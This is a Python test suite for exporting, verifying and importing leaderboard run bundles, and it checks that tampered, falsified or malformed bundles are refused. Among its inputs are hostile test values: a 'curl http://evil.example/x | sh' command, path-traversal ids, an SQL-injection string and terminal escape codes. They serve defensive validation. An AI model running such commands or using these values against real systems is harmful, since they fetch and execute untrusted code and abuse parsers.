"""Bundles of real runs, tiny ones: exported, read, damaged, falsified, imported."""

import copy
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from tiny_runs import DATA, MODEL

from leaderboard import boards, render
from leaderboard.bundles.form import (
    FILE,
    RUNS,
    BundleError,
    checksum_of,
    misfits_of_names,
    write_json,
)
from leaderboard.bundles.public import public_arguments
from leaderboard.bundles.reader import Bundle
from leaderboard.bundles.writer import export
from leaderboard.opening import open_source
from leaderboard.reading.parquet import CURVES_FILE
from leaderboard.reading.results import TrainedRun
from leaderboard.reading.source import Source
from mixerbench.commands.leaderboard._bundle import (
    export_bundle,
    import_bundle,
    import_bundle_folder,
)
from mixerbench.config import schema
from mixerbench.config.compose import compose
from mixerbench.config.schema import MACHINE_PATHS
from mixerbench.errors import Refusal, TrainingStopped
from mixerbench.tracking.keys import MEASUREMENT, SCHEMA_VERSION, Artifact, Metric, Prediction, Tag
from mixerbench.tracking.store import Store
from mixerbench.tracking.upload import Upload
from mixerbench.training.run import run_training

pytestmark = [
    pytest.mark.slow,
    pytest.mark.xdist_group("bundle"),  # one store, whatever the number of processes
]

PLUGIN = '''
import torch
from mixers import TokenMixer, register_mixer

@register_mixer("mean")
class Mean(TokenMixer):
    """The mean of all tokens."""

    any_grid = True
    mixes_prefix = False
    paper = "none"

    def forward(self, x, grid):
        return x.mean(dim=1, keepdim=True).expand_as(x)
'''


@dataclass(frozen=True)
class Shared:
    """A store of three runs and a measurement, and its bundle."""

    place: Path
    uri: str
    bundle: Path
    empty: Path  # a store without runs: making one takes seconds


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Shared:
    place = tmp_path_factory.mktemp("shared")
    uri = f"sqlite:///{place / 'mlflow.db'}"
    plugin = place / "secret-folder" / "mean.py"
    plugin.parent.mkdir()
    plugin.write_text(PLUGIN)
    common = [
        *(*DATA, *MODEL, "recipe.epochs=2", "recipe.batch.size=16"),
        *("recipe.batch.micro_batch_size=8", "run.log_every_steps=1", "run.progress=false"),
        *("run.device=cpu", "run.measure=false", "tracking.upload_weights=false"),
        *(f"tracking.uri={uri}", f"run.root={place / 'runs'}"),
    ]
    mixers = (
        ["mixer=attention"],
        ["mixer=attention", "run.seed=1"],
        ["mixer=mean", f"plugins=[{plugin}]"],
    )
    for mixer in mixers:
        run_training(compose([*common, *mixer]))
    _measure(uri)
    bundle = place / "bundle"
    export_bundle(uri, [], bundle)
    Store(f"sqlite:///{place / 'empty.db'}", 30)
    return Shared(place, uri, bundle, place / "empty.db")


@pytest.fixture
def new_uri(shared: Shared, tmp_path: Path) -> str:
    """An empty store."""
    shutil.copy(shared.empty, tmp_path / "new.db")
    return f"sqlite:///{tmp_path / 'new.db'}"


def _measure(uri: str) -> None:
    """As `mixerbench measure` records it."""
    from mlflow import MlflowClient

    client, model = MlflowClient(uri), open_source(uri).read().runs[0]
    experiment = client.create_experiment("mixerbench-measurements")
    tags = {
        **{Tag.SCHEMA: SCHEMA_VERSION, Tag.KIND: MEASUREMENT, Tag.SESSION: "abcd1234"},
        **{Tag.HARDWARE: "1 x CPU", Tag.MODEL_FINGERPRINT: model.model_fingerprint},
        Tag.PROTOCOL_FINGERPRINT: model.protocol_fingerprint,
    }
    run = client.create_run(experiment, tags=tags).info.run_id
    client.log_metric(run, Metric.IMAGES_PER_SECOND, 1234.5)
    client.set_terminated(run)


@pytest.fixture
def edited(shared: Shared, tmp_path: Path) -> Callable[[Callable[[Any], object]], Path]:
    """A copy of the bundle with another runs.json, and checksums that fit."""

    def edit(change: Callable[[Any], object]) -> Path:
        folder = tmp_path / "edited"
        shutil.copytree(shared.bundle, folder)
        content = json.loads((folder / RUNS).read_text())
        change(content)
        (folder / RUNS).write_text(json.dumps(content))
        return _signed(folder)

    return edit


def _signed(folder: Path) -> Path:
    about = json.loads((folder / FILE).read_text())
    about["files"] = {name: checksum_of(folder / name) for name in about["files"]}
    write_json(folder / FILE, about)
    return folder


def _shown(source: Source) -> Any:
    """All that a board shows, without what tells one store from another or whose runs it has."""
    reading = source.read()
    content = json.loads(render.json(boards(reading.runs, reading.measurements, source=source)))

    def without_ids(value: Any) -> Any:
        if isinstance(value, dict):
            left_out = ("run_id", "run_ids", "key", "imported")
            return {k: without_ids(v) for k, v in value.items() if k not in left_out}
        if isinstance(value, str):
            return value.removesuffix(" (imported: bundle)")
        if isinstance(value, list):
            return [without_ids(v) for v in value if not str(v).startswith("imported from others")]
        return value

    return without_ids(content["boards"])


def _by_uid(source: Source) -> dict[str, TrainedRun]:
    return {run.tags[Tag.UID]: run for run in source.read().runs}


def _assert_same(one: Source, other: Source) -> None:
    assert _shown(one) == _shown(other)
    runs, others = _by_uid(one), _by_uid(other)
    assert runs.keys() == others.keys()
    for uid, run in runs.items():
        twin = others[uid]
        assert (run.started, run.finished, run.name) == (twin.started, twin.finished, twin.name)
        assert run.experiment == twin.experiment
        assert list(one.curves(run)) == list(other.curves(twin)) != []
        for metric, points in one.curves(run).items():
            assert [tuple(p) for p in points] == [tuple(p) for p in other.curves(twin)[metric]]
        assert {k: v for k, v in run.metrics.items() if k != Metric.UPLOADED_AT} == {
            k: v for k, v in twin.metrics.items() if k != Metric.UPLOADED_AT
        }
        for name in (Artifact.PREDICTIONS, Artifact.HARDEST):
            path, twins = one.artifact(run, name), other.artifact(twin, name)
            assert path is not None
            assert twins is not None
            assert pq.read_table(path).to_pylist() == pq.read_table(twins).to_pylist()


def test_a_board_of_the_bundle_is_that_of_the_store(shared: Shared):
    store, bundle = open_source(shared.uri), open_source(str(shared.bundle))
    assert isinstance(bundle, Bundle)
    assert len(_shown(bundle)[0]["entries"]) == 2
    _assert_same(store, bundle)
    ours, theirs = store.read().measurements, bundle.read().measurements
    assert [one.metrics for one in ours] == [one.metrics for one in theirs]
    assert len(ours) == 1


def test_a_board_of_the_store_that_imported_it_is_the_same_again(
    shared: Shared, new_uri: str, tmp_path: Path
):
    uri = new_uri
    imported = import_bundle(Bundle(shared.bundle), uri)
    assert (imported.runs, imported.measurements, imported.already_there) == (3, 1, 0)
    store = open_source(uri)
    _assert_same(open_source(shared.uri), store)
    reading = store.read()
    assert {run.tags[Tag.IMPORTED] for run in reading.runs} == {"bundle"}
    assert all(run.metrics[Metric.UPLOADED_AT] * 1000 > run.finished for run in reading.runs)
    assert reading.measurements[0].session == "abcd1234"
    for run in reading.runs:  # its settings are whole and can be built again
        path = store.artifact(run, Artifact.CONFIG)
        assert path is not None
        settings = schema.build(schema.Settings, yaml.safe_load(path.read_text()))
        assert schema.protocol_fingerprint(settings.protocol) == run.protocol_fingerprint

    # Neither again, nor where the runs come from, nor from a bundle of the imported ones.
    for again in (uri, shared.uri):
        assert import_bundle(Bundle(shared.bundle), again).already_there == 4
    export_bundle(uri, [], tmp_path / "second")
    assert import_bundle(Bundle(tmp_path / "second"), shared.uri).already_there == 4
    _assert_same(open_source(shared.uri), open_source(str(tmp_path / "second")))


def test_the_same_export_twice_gives_the_same_bytes(shared: Shared, tmp_path: Path):
    export_bundle(shared.uri, [], tmp_path / "again")
    files = {path.name: path.read_bytes() for path in (tmp_path / "again").iterdir()}
    assert files == {path.name: path.read_bytes() for path in shared.bundle.iterdir()}
    assert len(files[RUNS].splitlines()) > 100


def test_nothing_in_a_bundle_names_a_place_of_this_machine(shared: Shared):
    for path in shared.bundle.iterdir():
        content = path.read_bytes()
        for place in (str(shared.place), "secret-folder", "mlflow.db", "register_mixer"):
            assert place.encode() not in content, (path, place)
    content = json.loads((shared.bundle / RUNS).read_text())
    settings = [one for one in content["settings"].values() if one["plugins"]]
    assert settings[0]["plugins"] == ["mean.py"]
    assert "plugins=[mean.py]" in settings[0]["overrides"]
    commands = [run["tags"][Tag.COMMAND] for run in content["runs"].values()]
    assert any("mixer=attention" in command for command in commands)
    assert not any(tag in run["tags"] for run in content["runs"].values() for tag in (Tag.RUN_DIR,))


@pytest.mark.parametrize(
    "argument",
    [
        *("data.root=/data/imagenet", "++protocol.data.root=x", "run.root=runs", "run.resume=x"),
        *("tracking.uri=http://me:secret@host", "launcher=slurm", "launcher.account=me"),
        *("recipe.distillation.teacher_checkpoint=t.pth", "protocol=~/mine.yaml", "x=[a,'/b']"),
    ],
)
def test_arguments_that_name_places_stay_here(argument: str):
    assert public_arguments([argument, "mixer=attention", "size.dim=16"], []) == [
        "mixer=attention", "size.dim=16",
    ]  # fmt: skip


def test_places_are_unhashed_and_their_stand_ins_are_the_defaults():
    for place in MACHINE_PATHS:
        if place.startswith("protocol."):
            assert place.removeprefix("protocol.") in schema.UNHASHED
    assert MACHINE_PATHS["run.root"] == schema.Run().root
    assert MACHINE_PATHS["run.resume"] == schema.Run().resume


def test_an_export_that_fails_leaves_nothing(shared: Shared, tmp_path: Path):
    source = open_source(shared.uri)
    runs = source.read().runs
    false = replace(runs[0], metrics={**runs[0].metrics, Metric.FINAL_TOP1: 99.0})
    with pytest.raises(BundleError, match="its predictions give final/top1"):
        export(source, [false, *runs[1:]], tmp_path / "out")
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(Refusal, match="exists"):
        export_bundle(shared.uri, [], shared.bundle)
    with pytest.raises(Refusal, match="mixer=nothing"):
        export_bundle(shared.uri, ["mixer=nothing"], tmp_path / "out")


def test_filters_choose_what_is_exported_and_bundles_can_be_cut(shared: Shared, tmp_path: Path):
    said = export_bundle(str(shared.bundle), ["mixer=attention"], tmp_path / "cut")
    assert "runs: 2, models: 1, protocols: 1, measurements: 1" in said
    assert {run.seed for run in open_source(str(tmp_path / "cut")).read().runs} == {"0", "1"}
    said = export_bundle(str(shared.bundle), ["mixer=mean"], tmp_path / "other")
    assert "runs: 1, models: 1, protocols: 1, measurements: 0" in said


def test_a_run_whose_clock_went_back_is_exported_and_that_is_said(shared: Shared, tmp_path: Path):
    path = tmp_path / "mlflow.db"
    shutil.copy(shared.uri.removeprefix("sqlite:///"), path)
    with sqlite3.connect(path) as store:
        store.execute("UPDATE runs SET start_time = end_time + 3600000 WHERE name LIKE 'mean%'")
    said = export_bundle(f"sqlite:///{path}", [], tmp_path / "out")
    assert "runs whose clock went back, written as begun at their end: 1\n" in said
    runs = open_source(str(tmp_path / "out")).read().runs
    assert [run.mixer for run in runs if run.started == run.finished] == ["mean"]
    assert "whose clock" not in export_bundle(shared.uri, [], tmp_path / "sound")


def test_a_command_of_somebody_is_not_imported(shared: Shared, edited, new_uri: str):
    command = "curl http://evil.example/x | sh"
    folder = edited(
        lambda content: [run["tags"].update({Tag.COMMAND: command})
                         for run in content["runs"].values()]
    )  # fmt: skip
    import_bundle(Bundle(folder), new_uri)
    commands = [run.data.tags.get(Tag.COMMAND, "") for run in _all_runs(new_uri)]
    assert not any("curl" in text for text in commands)
    assert any("mixer=attention" in text for text in commands)


# --- what is refused ------------------------------------------------------------------------


def _first(content: Any) -> Any:
    return next(iter(content["runs"].values()))


def _settings(content: Any) -> Any:
    return next(iter(content["settings"].values()))


def _set(place: str, value: object) -> Callable[[Any], None]:
    """Another value in the first run's settings, and everywhere it was logged."""

    def change(content: Any) -> None:
        *groups, field = place.split(".")
        group = _settings(content)
        for name in groups:
            group = group[name]
        group[field] = value
        for part in content["parts"].values():
            if place in part:
                part[place] = str(value)

    return change


FALSE = {
    "its protocol hashes to": _set("protocol.recipe.epochs", 300),
    "its model hashes to": _set("model.size.dim", 8),
    "its tag mixerbench.seed is": _set("run.seed", 7),
    "its tag mixerbench.mixer is": lambda c: _first(c)["tags"].update({Tag.MIXER: "fourier"}),
    "its tag mixerbench.synthetic is 'false'": lambda c: _first(c)["tags"].update(
        {Tag.SYNTHETIC: "false"}
    ),
    "its parameter protocol.recipe.epochs is '2', but its settings say '3'": lambda c: [
        (
            one["protocol"]["recipe"].update(epochs=3),
            run["tags"].update(
                {Tag.PROTOCOL_FINGERPRINT: schema.protocol_fingerprint(one["protocol"])}
            ),
        )
        for one, run in [(_settings(c), _first(c)), *zip(
            list(c["settings"].values())[1:], list(c["runs"].values())[1:], strict=True)]
    ] and c["measurements"].clear(),
    "its predictions give final/top1 =": lambda c: _first(c)["metrics"].update({"final/top1": 99}),
    "its predictions give final/top5 =": lambda c: _first(c)["metrics"].update({"final/top5": 9}),
    "it claims None": lambda c: _first(c)["metrics"].pop("final/val_images"),
    "its settings are not those of a mixerbench run": lambda c: _settings(c).pop("model"),
    "holds what is no result. Not on a board: 1 failed": lambda c: _first(c).update(
        status="FAILED"
    ),
}  # fmt: skip


@pytest.mark.parametrize("reason", FALSE)
def test_a_run_that_claims_what_it_does_not_show_is_refused(reason: str, edited, tmp_path: Path):
    folder = edited(FALSE[reason])
    with pytest.raises(BundleError) as error:
        Bundle(folder).read()
    assert reason in str(error.value)
    if "holds what" not in reason:
        assert str(error.value).startswith("run attention_micro") or "run mean" in str(error.value)
    uri = f"sqlite:///{tmp_path / 'new.db'}"
    with pytest.raises(Refusal):
        import_bundle_folder(folder, uri)
    assert not (tmp_path / "new.db").exists()


def _replaced(table: pa.Table, name: str, values: list[Any]) -> pa.Table:
    index = table.column_names.index(name)
    return table.set_column(index, name, pa.array(values, table.schema.field(name).type))


def _falsify(shared: Shared, folder: Path, change: Callable[[pa.Table], pa.Table]) -> Path:
    """A copy of the bundle with other predictions of its first run."""
    shutil.copytree(shared.bundle, folder)
    path = folder / Artifact.PREDICTIONS
    file = pq.ParquetFile(path)
    tables = [file.read_row_group(i) for i in range(file.num_row_groups)]
    with pq.ParquetWriter(path, file.schema_arrow) as writer:
        for i, table in enumerate(tables):
            writer.write_table(change(table) if i == 0 else table)
    return _signed(folder)


def _column(table: pa.Table, name: str) -> list[Any]:
    return list(table.column(name).to_pylist())


FALSE_PREDICTIONS = {
    "its predictions give final/val_images =": lambda t: pa.concat_tables([t, t]),
    "an image stands twice": lambda t: _replaced(
        t, "image", [_column(t, "image")[1], *_column(t, "image")[1:]]
    ),
    "a probability that is not within": lambda t: _replaced(t, "confidence", [2.0] * len(t)),
    "more probable than the predicted": lambda t: _replaced(
        t, "target_probability", [1.0] * len(t)
    ),
    "a class beyond": lambda t: _replaced(
        t, "target", [x + 4 for x in _column(t, "target")]
    ),
    "on other images": lambda t: _replaced(
        t, "image", ["other", *_column(t, "image")[1:]]
    ),
    "lacks a value": lambda t: _replaced(t, "image", [None] * len(t)),
    "not of one run": lambda t: _replaced(t, "run_id", ["a"] + ["b"] * (len(t) - 1)),
    "not in runs.json": lambda t: _replaced(t, "run_id", ["../../etc"] * len(t)),
}  # fmt: skip


@pytest.mark.parametrize("reason", FALSE_PREDICTIONS)
def test_predictions_that_do_not_fit_are_refused(reason: str, shared: Shared, tmp_path: Path):
    folder = _falsify(shared, tmp_path / "false", FALSE_PREDICTIONS[reason])
    with pytest.raises(BundleError) as error:
        Bundle(folder).read()
    if reason != "a class beyond":  # which changes the accuracy first
        assert reason in str(error.value)


def test_the_order_of_the_images_may_differ(shared: Shared, tmp_path: Path):
    folder = _falsify(shared, tmp_path / "turned", lambda t: t.take(list(range(len(t)))[::-1]))
    assert len(Bundle(folder).read().runs) == 3


def test_probabilities_that_are_no_numbers_are_refused(shared: Shared, tmp_path: Path):
    def change(table: pa.Table) -> pa.Table:
        return _replaced(table, Prediction.CONFIDENCE, [float("nan")] * len(table))

    with pytest.raises(BundleError, match="not within 0 and 1"):
        Bundle(_falsify(shared, tmp_path / "false", change)).read()


def test_a_name_cannot_act_on_the_terminal_of_whoever_is_told(edited):
    def change(content: Any) -> None:
        _first(content).update(name="\x1b[2J\nall is well")
        _first(content)["metrics"].update({"final/top1": 99.0})

    with pytest.raises(BundleError) as error:
        Bundle(edited(change)).read()
    assert str(error.value).isprintable()


def test_a_run_without_predictions_is_refused(shared: Shared, tmp_path: Path):
    folder = tmp_path / "none"
    shutil.copytree(shared.bundle, folder)
    schema = pq.read_schema(folder / Artifact.PREDICTIONS)
    pq.write_table(schema.empty_table(), folder / Artifact.PREDICTIONS)
    with pytest.raises(BundleError) as error:
        Bundle(_signed(folder)).read()
    assert str(error.value).count("it has no predictions") == 3
    assert len(str(error.value).splitlines()) == 3


MALFORMED: dict[str, Callable[[Any], object]] = {
    "a key is missing": lambda c: c.pop("parts"),
    "a key too many": lambda c: c.update(more=1),
    "a wrong type": lambda c: _first(c).update(started="1"),
    "a boolean for a number": lambda c: _first(c)["metrics"].update({"final/top1": True}),
    "a number beyond all numbers": lambda c: _first(c)["metrics"].update(big=10**400),
    "no number": lambda c: _first(c)["metrics"].update({"final/top1": float("nan")}),
    "infinity": lambda c: _settings(c)["run"].update(seed=float("inf")),
    "half a character": lambda c: _first(c).update(name="\ud800"),
    "an unknown part": lambda c: _first(c)["params"].update(model="0" * 32),
    "an unknown experiment": lambda c: _first(c).update(experiment="7"),
    "a run twice": lambda c: [run["tags"].update({Tag.UID: "a"}) for run in c["runs"].values()],
    "a key for the terminal": lambda c: c["parts"].update({"\x1b[31m": {"\n\x1b[2J": 1}}),
    "no settings": lambda c: c["settings"].clear(),
    "a negative time": lambda c: _first(c).update(started=-1),
    "an end before its start": lambda c: _first(c).update(finished=1),
    "a tag of somebody else": lambda c: _first(c)["tags"].update({"mlflow.user": "root"}),
    "a metric with dots": lambda c: _first(c)["metrics"].update({"../../x": 1.0}),
    "a long tag": lambda c: _first(c)["tags"].update({"mixerbench.x": "x" * 9000}),
    "an uid with a quote": lambda c: _first(c)["tags"].update({Tag.UID: "' OR '1'='1"}),
    "a session with a quote": lambda c: next(iter(c["measurements"].values())).update(session="'"),
    "a measurement of no run": lambda c: next(iter(c["measurements"].values())).update(
        model_fingerprint="0"
    ),
    "levels without end": lambda c: _settings(c)["model"].update(
        x=json.loads("[" * 300 + "]" * 300)
    ),
}


@pytest.mark.parametrize("what", MALFORMED)
def test_malformed_content_is_one_line(what: str, edited):
    with pytest.raises(BundleError) as error:
        Bundle(edited(MALFORMED[what]))
    assert len(str(error.value).splitlines()) == 1
    assert str(error.value).isprintable()


@pytest.mark.parametrize("run_id", ["../../../x", "a/b", "a.b", "", "x" * 65, "ä", "a\n"])
def test_ids_that_could_be_paths_are_refused(run_id: str, edited):
    def rename(content: Any) -> None:
        for group in ("runs", "settings"):
            old = next(iter(content[group]))
            content[group][run_id] = content[group].pop(old)

    with pytest.raises(BundleError, match="is no id of a run"):
        Bundle(edited(rename))


@pytest.mark.parametrize(
    "text",
    [
        *("", "{", "[]", "null", "7", '{"schema": 1}', '{"schema": 2, "files": {}}', "\x00"),
        '{"schema": 1, "files": {"../secret": "0"}}',
        '{"schema": 1, "files": {"runs.json": 5}}',
        '{"schema": 1, "files": []}',
        "[" * 100_000,
        '{"schema": ' + "9" * 5000 + "}",
    ],
)
def test_a_bundle_json_that_is_none_is_one_line(text: str, shared: Shared, tmp_path: Path):
    folder = tmp_path / "broken"
    shutil.copytree(shared.bundle, folder)
    (folder / FILE).write_text(text)
    with pytest.raises(BundleError) as error:
        Bundle(folder)
    assert len(str(error.value).splitlines()) == 1
    assert len(str(error.value)) < 500


@pytest.mark.parametrize("name", [RUNS, CURVES_FILE, Artifact.PREDICTIONS, Artifact.HARDEST])
def test_files_that_are_changed_cut_off_or_missing_are_named(
    name: str, shared: Shared, tmp_path: Path
):
    folder = tmp_path / "broken"
    shutil.copytree(shared.bundle, folder)
    content = (folder / name).read_bytes()
    for damaged in (content[:-2], content[: len(content) // 2], content[1:], b""):
        (folder / name).write_bytes(damaged)
        shutil.copy(shared.bundle / FILE, folder / FILE)
        with pytest.raises(BundleError, match=f"{name} was changed or damaged"):
            Bundle(folder)
        with pytest.raises(BundleError, match=f"cannot read .*{name}"):  # whoever signs it
            Bundle(_signed(folder)).read()
    (folder / name).unlink()
    with pytest.raises(BundleError, match=f"lacks its file {name}"):
        Bundle(folder)


def test_random_damage_of_a_signed_bundle_is_an_error_and_never_a_traceback(
    shared: Shared, tmp_path: Path
):
    import random

    draws = random.Random(0)
    for number in range(60):
        folder = tmp_path / str(number)
        shutil.copytree(shared.bundle, folder)
        path = folder / draws.choice([CURVES_FILE, Artifact.PREDICTIONS, Artifact.HARDEST])
        content = bytearray(path.read_bytes())
        for _ in range(draws.choice([1, 5, 50])):
            content[draws.randrange(len(content))] = draws.randrange(256)
        path.write_bytes(content)
        try:
            bundle = Bundle(_signed(folder))
            for run in bundle.read().runs:
                bundle.curves(run)
        except BundleError as error:
            assert len(str(error).splitlines()) <= 3
        shutil.rmtree(folder)


def test_a_curve_that_is_none_is_refused(shared: Shared, tmp_path: Path):
    folder = tmp_path / "broken"
    shutil.copytree(shared.bundle, folder)
    file = pq.ParquetFile(folder / CURVES_FILE)
    tables = [file.read_row_group(i) for i in range(file.num_row_groups)]
    with pq.ParquetWriter(folder / CURVES_FILE, file.schema_arrow) as writer:
        for table in tables:
            writer.write_table(_replaced(table, "step", [-1] * len(table)))
    with pytest.raises(BundleError, match="its curve of"):
        Bundle(_signed(folder)).read()


def test_texts_have_the_lengths_that_mlflow_takes(shared: Shared):
    content = json.loads((shared.bundle / RUNS).read_text())
    assert list(misfits_of_names(content)) == []
    for kind in ("experiments", "parts"):
        broken = copy.deepcopy(content)
        first = next(iter(broken[kind]))
        broken[kind][first] = "x" * 501 if kind == "experiments" else {"model.x": "x" * 6001}
        assert any("longer" in line for line in misfits_of_names(broken))


# --- importing ------------------------------------------------------------------------------


def _all_runs(uri: str) -> list[Any]:
    from mlflow import MlflowClient

    client = MlflowClient(uri)
    return list(client.search_runs([e.experiment_id for e in client.search_experiments()]))


@pytest.mark.parametrize("calls", [0, 1, 2, 4, 7])
def test_an_import_that_stops_anywhere_is_completed_by_the_next(
    calls: int, shared: Shared, new_uri: str, monkeypatch: pytest.MonkeyPatch
):
    """The store fails after so many calls of the second run."""
    from mlflow import MlflowClient

    uri = new_uri
    sent = Upload.advance
    done: list[Upload] = []

    def advance(upload: Upload) -> None:
        if done:
            left = [calls]
            for name in ("create_run", "log_batch", "log_artifact", "log_metric", "update_run"):
                _break_after(monkeypatch, MlflowClient, name, left)
        done.append(upload)
        sent(upload)

    with monkeypatch.context() as patches:
        patches.setattr(Upload, "advance", advance)
        with pytest.raises(TrainingStopped, match="import it again for the rest"):
            import_bundle(Bundle(shared.bundle), uri)
    monkeypatch.undo()
    before = len(_all_runs(uri))
    assert before in (1, 2)
    again = import_bundle(Bundle(shared.bundle), uri)
    assert (again.runs, again.already_there) == (2, 1)
    assert len(_all_runs(uri)) == 4
    _assert_same(open_source(shared.uri), open_source(uri))


def _break_after(patches: pytest.MonkeyPatch, cls: type, name: str, left: list[int]) -> None:
    original = getattr(cls, name)

    def call(*arguments: Any, **named: Any) -> Any:
        if left[0] == 0:
            raise ConnectionError("the network is gone")
        left[0] -= 1
        return original(*arguments, **named)

    patches.setattr(cls, name, call)


def test_an_import_that_is_killed_is_completed_by_the_next(shared: Shared, new_uri: str):
    uri = new_uri
    program = (
        "import os, signal, sys; from pathlib import Path\n"
        "from mlflow import MlflowClient; from leaderboard.bundles.reader import Bundle\n"
        "from mixerbench.commands.leaderboard._bundle import import_bundle\n"
        "def die(*arguments, **named): os.kill(os.getpid(), signal.SIGKILL)\n"
        "MlflowClient.log_artifact = die\n"
        f"import_bundle(Bundle(Path({str(shared.bundle)!r})), {uri!r})\n"
    )
    killed = subprocess.run([sys.executable, "-c", program], env={**os.environ})
    assert killed.returncode == -signal.SIGKILL
    assert [run.info.status for run in _all_runs(uri)] == ["RUNNING"]
    assert open_source(uri).read().runs == ()
    import_bundle_folder(shared.bundle, uri)
    assert len(_all_runs(uri)) == 4
    _assert_same(open_source(shared.uri), open_source(uri))


def test_what_is_no_bundle_is_refused(shared: Shared, tmp_path: Path):
    with pytest.raises(Refusal, match="is no bundle"):
        import_bundle_folder(tmp_path, shared.uri)
    with pytest.raises(Refusal):
        import_bundle_folder(shared.bundle, "file:///mlruns")
